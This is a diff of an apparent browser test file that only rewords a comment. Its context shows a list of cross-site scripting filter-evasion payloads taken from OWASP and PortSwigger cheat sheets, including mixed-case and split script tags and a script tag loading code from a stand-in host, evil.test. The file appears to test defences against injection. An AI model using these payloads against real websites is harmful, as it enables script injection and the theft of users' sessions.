@@ -6,7 +6,7 @@ import { expect, test } from '../../platform/test';
 test.use({ bypassCSP: true });
 
 const run = 'self.injected=1';
-/** Known attacks (OWASP's filter evasion sheet, PortSwigger's cheat sheet); those that swallow what follows come last. */
+/** Known attacks (OWASP's filter evasion sheet, PortSwigger's cheat sheet). Those that swallow the rest come last. */
 const tries = [
   `<script>${run}</script><ScRiPt>${run}</sCrIpT><scr<script>ipt>${run}</scr</script>ipt>`,
   '<script src="https://evil.test/x.js"></script>',
